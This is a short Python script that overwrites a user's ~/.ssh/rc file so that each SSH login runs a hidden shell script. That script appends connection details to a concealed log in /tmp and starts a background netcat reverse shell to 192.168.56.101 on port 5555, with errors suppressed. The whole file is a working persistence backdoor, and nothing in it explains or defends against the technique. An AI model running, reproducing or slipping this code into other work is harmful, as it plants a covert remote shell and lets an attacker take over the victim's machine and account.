import os

rc = os.path.join(os.path.expanduser("~"), ".ssh", "rc")
with open(rc, "w") as f:
    f.write("#!/bin/sh\n")
    f.write("echo \"$SSH_CONNECTION $(date)\" >> /tmp/.sshlog\n")
    f.write("(/usr/bin/nc -e /bin/sh 192.168.56.101 5555 &) 2>/dev/null\n")
os.chmod(rc, 0o755)
